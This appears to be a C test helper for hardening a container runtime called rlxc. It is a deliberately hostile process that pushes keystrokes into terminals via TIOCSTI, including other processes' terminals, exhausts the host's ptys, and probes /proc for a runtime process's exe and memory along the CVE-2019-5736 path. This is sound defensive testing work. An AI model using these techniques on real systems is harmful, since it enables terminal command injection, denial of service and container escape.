/* A hostile process for rlxc's hardening tests, run inside a container.
 *   inject TEXT            push TEXT as keystrokes (TIOCSTI) into fds 0, 1 and 2
 *   inject --watch S TEXT  for S seconds, push TEXT into every other process's fd 0
 *                          that is a terminal (a bystander watching /proc)
 *   inject --ptys          open ptys from /dev/ptmx until the kernel refuses; print
 *                          how many (a container hoarding the host's ptys)
 *   inject --peek S        for up to S seconds, watch /proc for an rlxc process (an
 *                          attach on its way to exec) and try its exe and memory;
 *                          print what it saw (runc exec's CVE-2019-5736 way in)
 * Prints how many descriptors took the keystrokes. */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <time.h>
#include <unistd.h>

static int push(int fd, const char *s) {
    for (const char *p = s; *p; p++)
        if (ioctl(fd, TIOCSTI, p) != 0)
            return 0;
    return 1;
}

/* Every other process but init, round after round for `seconds` (resting `rest_us`
 * between rounds), until visit() says done (nonzero). Whether it did. */
static int each_process(int seconds, int rest_us, int (*visit)(int pid)) {
    time_t end = time(NULL) + seconds;
    while (time(NULL) < end) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        int stop = 0;
        while (d && !stop && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid > 1 && pid != getpid())
                stop = visit(pid);
        }
        if (d)
            closedir(d);
        if (stop)
            return 1;
        usleep(rest_us);
    }
    return 0;
}

static const char *watch_text;
static int watch_hits, watch_done[4096];

static int watch_one(int pid) {
    if (pid >= 4096 || watch_done[pid])
        return 0;
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/fd/0", pid);
    int fd = open(path, O_RDWR | O_NOCTTY | O_NONBLOCK);
    if (fd < 0)
        return 0;
    if (isatty(fd)) {
        watch_done[pid] = 1;
        watch_hits += push(fd, watch_text);
    }
    close(fd);
    return 0;
}

static int watch(int seconds, const char *s) {
    watch_text = s;
    each_process(seconds, 2000, watch_one);
    return watch_hits;
}

static int hoard_ptys(void) {
    int n = 0;
    while (n < 100000 && open("/dev/ptmx", O_RDWR | O_NOCTTY) >= 0)
        n++;
    printf("ptys=%d\n", n);
    return 0;
}

/* A process whose comm starts with "rlxc": can its /proc/PID/exe be read and its
 * /proc/PID/mem opened? Said, and done. */
static int peek_one(int pid) {
    char path[64], comm[32] = "", exe[4096];
    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0)
        return 0;
    ssize_t n = read(fd, comm, sizeof comm - 1);
    close(fd);
    if (n < 4 || strncmp(comm, "rlxc", 4) != 0)
        return 0;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    ssize_t len = readlink(path, exe, sizeof exe - 1);
    exe[len > 0 ? len : 0] = 0;
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int mem = open(path, O_RDONLY);
    printf("seen exe=%s mem=%s\n", len > 0 ? exe : "refused", mem >= 0 ? "opened" : "refused");
    fflush(stdout);
    return 1;
}

int main(int argc, char **argv) {
    int hits = 0;
    if (argc == 2 && strcmp(argv[1], "--ptys") == 0)
        return hoard_ptys();
    if (argc == 3 && strcmp(argv[1], "--peek") == 0) {
        if (each_process(atoi(argv[2]), 0, peek_one))
            return 0;
        printf("nothing seen\n");
        return 1;
    }
    if (argc == 4 && strcmp(argv[1], "--watch") == 0) {
        hits = watch(atoi(argv[2]), argv[3]);
    } else if (argc == 2) {
        for (int fd = 0; fd < 3; fd++)
            hits += push(fd, argv[1]);
    } else {
        fprintf(stderr, "usage: inject TEXT | --watch SECONDS TEXT | --ptys | --peek SECONDS\n");
        return 2;
    }
    printf("injected-through=%d\n", hits);
    fflush(stdout);
    return 0;
}
